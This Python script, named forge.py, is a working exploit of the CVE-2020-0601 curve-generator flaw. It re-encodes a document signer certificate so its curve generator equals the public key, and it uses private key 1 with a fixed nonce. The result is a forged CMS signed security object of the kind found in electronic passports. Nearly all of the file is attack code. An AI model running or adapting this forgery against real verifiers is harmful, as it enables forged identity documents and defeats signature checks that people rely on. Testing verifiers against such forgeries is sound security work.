# A document signer's certificate whose curve has another generator (CVE-2020-0601). The CSCA really signs it, and the
# file's signature is right for whoever believes the generator in it: generator := public key, private key := 1.
# usage: forge.py DS CSCA CONTENT OUT
import hashlib, subprocess, sys
ds, csca, content, out = sys.argv[1:]
P = 0xA9FB57DBA1EEA9BC3E660A909D838D726E3BF623D52620282013481D1F6E5377
A = 0x7D5A0975FC2C3057EEF67530417AFFE7FB8055C126DC5C6CE94A4B44F330B5D9
N = 0xA9FB57DBA1EEA9BC3E660A909D838D718C397AA3B561A6F7901E0E82974856A7
G = bytes.fromhex('048BD2AEB9CB7E57CB2C4B482FFC81B7AFB9DE27E1E3BD23C23A4453BD9ACE3262547EF835C3DAC4FD97F8461A14611DC9C27745132DED8E545C1D54C72F046997')

def add(p, q):
    if p is None: return q
    if q is None: return p
    if p[0] == q[0] and (p[1] + q[1]) % P == 0: return None
    m = (3 * p[0] ** 2 + A) * pow(2 * p[1], -1, P) if p == q else (q[1] - p[1]) * pow(q[0] - p[0], -1, P)
    x = (m * m - p[0] - q[0]) % P
    return x, (m * (p[0] - x) - p[1]) % P

def times(k, p):
    r = None
    while k:
        if k & 1: r = add(r, p)
        p, k = add(p, p), k >> 1
    return r

def tlv(tag, value):
    n = len(value)
    b = n.to_bytes((n.bit_length() + 7) // 8 or 1, 'big')
    return bytes([tag]) + (bytes([n]) if n < 128 else bytes([0x80 | len(b)]) + b) + value

def items(value):
    found = []
    while value:
        n, h = value[1], 2
        if n >= 128:
            h = 2 + (n & 127); n = int.from_bytes(value[2:h], 'big')
        found.append((value[0], value[h:h + n], value[:h + n])); value = value[h + n:]
    return found

integer = lambda i: tlv(2, i.to_bytes(i.bit_length() // 8 + 1, 'big'))
der = subprocess.run(['openssl', 'x509', '-in', ds + '.pem', '-outform', 'DER'], capture_output=True, check=True).stdout
tbs, algorithm, _ = [raw for _, _, raw in items(items(der)[0][1])]
point = [v for _, v, _ in items(items(items(tbs)[0][1])[6][1])][1][1:]
assert tbs.count(G) == 1 and len(point) == 65
tbs = tbs.replace(G, point)
open('tbs', 'wb').write(tbs)
signature = subprocess.run(['openssl', 'dgst', '-sha384', '-sign', csca + '.key', 'tbs'], capture_output=True, check=True).stdout
certificate = tlv(0x30, tbs + algorithm + tlv(3, b'\0' + signature))
data = open(content, 'rb').read()
oid = lambda text: tlv(6, bytes.fromhex(text))
SO = oid('04007f0007030201')
attributes = tlv(0x30, oid('2a864886f70d010903') + tlv(0x31, SO)) + tlv(0x30, oid('2a864886f70d010904') + tlv(0x31, tlv(4, hashlib.sha256(data).digest())))
z = int.from_bytes(hashlib.sha256(tlv(0x31, attributes)).digest(), 'big')
q = int.from_bytes(point[1:33], 'big'), int.from_bytes(point[33:], 'big')
k = 0x1234567890ABCDEF1234567890ABCDEF
r = times(k, q)[0] % N
s = pow(k, -1, N) * (z + r) % N
w = pow(s, -1, N)
assert times(z * w % N + r * w % N, q)[0] % N == r
sha = tlv(0x30, oid('608648016503040201'))
fields = items(items(tbs)[0][1])
signer = tlv(0x30, integer(1) + tlv(0x30, fields[3][2] + fields[1][2]) + sha + tlv(0xA0, attributes)
             + tlv(0x30, oid('2a8648ce3d040302')) + tlv(4, tlv(0x30, integer(r) + integer(s))))
signed = tlv(0x30, integer(3) + tlv(0x31, sha) + tlv(0x30, SO + tlv(0xA0, tlv(4, data))) + tlv(0xA0, certificate) + tlv(0x31, signer))
open(out, 'wb').write(tlv(0x30, oid('2a864886f70d010702') + tlv(0xA0, signed)))
